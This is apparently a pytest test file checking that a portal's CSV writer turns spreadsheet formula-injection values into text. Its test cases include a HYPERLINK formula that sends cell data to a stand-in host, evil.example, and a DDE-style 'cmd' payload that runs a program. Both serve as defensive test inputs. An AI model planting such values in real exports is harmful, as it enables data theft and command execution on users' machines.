"""No cell of a CSV the portal writes can run as a formula in a spreadsheet."""

import csv
import io

import pytest

from neighbourhoods import csv_cells

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "value, written",
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        # Numbers stay numbers, as numbers or as text that is plainly one.
        ("-0.065", "-0.065"),
        ("+51.5", "+51.5"),
        (-0.065, -0.065),
        (0, 0),
        # Ordinary text, and nothing.
        ("London Fields", "London Fields"),
        ("E8 1DY", "E8 1DY"),
        ("A=B", "A=B"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_that_could_be_a_formula_is_written_as_text(value, written):
    assert csv_cells.safe_cell(value) == written


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_cells.writer(out, lineterminator="\n")
    writer.writerow(["name", "longitude"])
    writer.writerows([[EVIL, "-0.065"], ["@me", None]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "longitude"], ["'" + EVIL, "-0.065"], ["'@me", ""]]


@pytest.mark.parametrize(
    "text, line",
    [
        (f"Profile of {EVIL}. Figures", f"# Profile of {EVIL}. Figures\n"),
        # After a comma a spreadsheet begins a new cell: a formula there is made text...
        ("London Fields,=1+1", "# London Fields,'=1+1\n"),
        ('Fields, "@SUM(1,1)"', '# Fields, "\'@SUM(1,1)"\n'),
        ("a,\t=1, -2+3", "# a,'\t=1, '-2+3\n"),
        # ...and a line break would begin a line of its own, so it is a space.
        ("Fields\n=1+1\r\n+2", "# Fields =1+1 +2\n"),
        ("Open Government Licence v3.0, released 2025-10-30", None),
    ],
)
def test_a_comment_line_cannot_begin_a_cell_with_a_formula(text, line):
    out = io.StringIO()
    csv_cells.comment(out, text)
    assert out.getvalue() == (line or f"# {text}\n")
    [cells] = list(csv.reader(io.StringIO(out.getvalue())))
    assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t")) for cell in cells)
